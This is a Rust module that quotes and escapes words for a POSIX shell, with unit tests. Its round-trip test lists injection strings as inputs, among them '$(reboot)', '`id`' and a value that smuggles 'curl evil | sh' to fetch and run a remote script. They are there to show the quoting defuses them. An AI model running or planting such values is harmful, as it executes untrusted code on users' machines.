//! Quotes words for a POSIX shell.

use std::borrow::Cow;

/// `word` as a shell must see it to hand on exactly that word. Words of letters, digits and a few safe signs stay as they
/// are; everything else goes into single quotes, where nothing has a meaning.
pub fn quote(word: &str) -> Cow<'_, str> {
    if is_safe(word) {
        return Cow::Borrowed(word);
    }
    Cow::Owned(["'", &word.replace('\'', r"'\''"), "'"].concat())
}

/// The same for the text between double quotes, where `$NAME` still has a meaning.
pub fn escape_in_double_quotes(text: &str) -> String {
    let mut escaped = String::new();
    for character in text.chars() {
        if matches!(character, '"' | '\\' | '$' | '`') {
            escaped.push('\\');
        }
        escaped.push(character);
    }
    escaped
}

/// True if no shell does anything with the word. A leading `=` would be a command's path in zsh.
pub fn is_safe(word: &str) -> bool {
    let is_safe = |byte: u8| byte.is_ascii_alphanumeric() || b"_-./:,@%+=".contains(&byte);
    !word.is_empty() && !word.starts_with('=') && word.bytes().all(is_safe)
}

#[cfg(test)]
mod tests {
    use super::quote;

    #[test]
    fn every_word_comes_back_from_a_shell_words_library() {
        for word in [
            "plain",
            "",
            "a b",
            "it's",
            "''",
            "$(reboot)",
            "`id`",
            "0.0.0.0; curl evil | sh #",
            "a\nb",
            "\\",
            "~",
            "*?[a]{b,c}",
            "<node-rank>",
            "=ls",
            "héllo",
            "\u{202e}",
            "{\"a\": true}",
        ] {
            assert_eq!(shell_words::split(&quote(word)).unwrap(), [word], "{word}");
        }
    }

    #[test]
    fn plain_words_are_left_alone() {
        for word in ["8", "0.85", "moonshotai/Kimi-K3", "lmsysorg/sglang:v0.5-cu13", "NAME=1"] {
            assert_eq!(quote(word), word);
        }
    }
}
